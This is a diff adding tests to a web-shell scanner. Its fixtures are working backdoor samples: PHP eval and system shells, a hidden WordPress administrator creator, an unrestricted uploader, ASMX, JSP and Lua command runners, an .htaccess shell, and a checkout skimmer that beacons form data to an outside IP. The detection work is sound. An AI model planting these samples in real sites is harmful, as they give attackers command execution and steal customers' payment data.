@@ -60,6 +60,34 @@ test('over a tree: by language, place and name', () => {
 	]);
 });
 
+test.each<[string, string, string]>([
+	['a replacement that evaluates', '/var/www/a/5.php', "<?php mb_ereg_replace('.*', $_POST['x'], '', 'e');"],
+	['a page that is a picture', '/var/www/a/h.php', "<?php\n@include dirname(__FILE__) . '/img/logo.png';\n"],
+	['code kept in a picture', '/var/www/a/g.php', "<?php $e=exif_read_data('img/a.jpg'); eval($e['Artist']);"],
+	['a page of /tmp', '/var/www/a/f.php', "<?php if(isset($_GET['d'])) { include('/tmp/.cache/s'); }\n"],
+	['an administrator made by a page', '/var/www/a/w.php', "<?php if (md5($_GET['bd']) == '34d1') { $u = wp_create_user('wpadmin', 'pass'); $user = new WP_User($u); $user->set_role('administrator'); }\n"],
+	['names made of shifted letters', '/var/www/a/b.php', "<?php $f='';foreach(str_split('rxrsdl') as $c)$f.=chr(ord($c)+1);$f($_GET['q']);"],
+	['the request by way of a session', '/var/www/a/c.php', "<?php session_start();$_SESSION['a']=$_POST['a'];include('/var/lib/php/sessions/sess_'.session_id());"],
+	['an upload without a question', '/var/www/a/u.php', "<?php if($_FILES)copy($_FILES['f']['tmp_name'],$_FILES['f']['name']);"],
+	['a web service', '/var/www/a/c.asmx', '<%@ WebService Language="C#" Class="S" %>\n[WebMethod] public string R(string c) { return Process.Start("cmd.exe", "/c " + c).ToString(); }\n'],
+	['a page in the language of expressions', '/var/lib/tomcat9/webapps/ROOT/c.jsp', '${"".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass())}'],
+	['a page in Lua', '/srv/www/w/cgi-bin/s.lua', '#!/usr/bin/lua\nlocal h = io.popen(os.getenv("QUERY_STRING"))\n'],
+	['an .htaccess that is the page itself', '/var/www/a/.htaccess', 'AddType application/x-httpd-php .htaccess\n#<?php system($_GET["c"]); ?>\n'],
+	['a script that sends away what is typed', '/var/www/a/checkout.js', "f.addEventListener('submit',()=>{new Image().src='https://203.0.113.9/i.gif?d='+btoa(d);});\n"],
+	['a page somebody signed', '/var/www/a/index.html', '<html><head><title>Hacked by Mallory</title></head></html>\n'],
+])('%s', (_name, path, text) => {
+	expect(sweep(webShells, memoryHost({ [path]: text })).filter(({ severity }) => !/^(?:info|low)$/.test(severity))).toHaveLength(1);
+});
+
+test('SQL names between back quotes, and row[kind](row[size]) in a string, were called a web shell', () => {
+	expect(score('<?php $table = $_GET["t"]; $row = $_POST; query("SELECT * FROM `$table` WHERE 1"); $sql .= "\\nPARTITION BY $row[by]($row[size])"; # a \'quote\n')).toBeLessThan(3);
+	expect(score('<?php $c = $_GET["c"]; echo "it\'s"; echo `$c`;')).toBeGreaterThanOrEqual(6);
+});
+
+test('a compiled program for requests', () => {
+	expect(ask({ '/usr/lib/cgi-bin/status': { mode: 0o755, content: '\x7fELF\x02\x01\x01' }, '/usr/lib/cgi-bin/own': { mode: 0o755, content: '\x7fELF\x02\x01\x01' }, '/var/lib/dpkg/info/p.list': '/usr/lib/cgi-bin/own\n' })).toEqual(['medium /usr/lib/cgi-bin/status']);
+});
+
 test('words in pieces', () => {
 	expect(score('<?php $k="ass"."ert"; $k(${"_PO"."ST"}["z"]);')).toBeGreaterThanOrEqual(6);
 	expect(score("<?php $f = str_replace('x', '', 'sxyxsxtxexm'); $f($_POST['c']);")).toBeGreaterThanOrEqual(5);
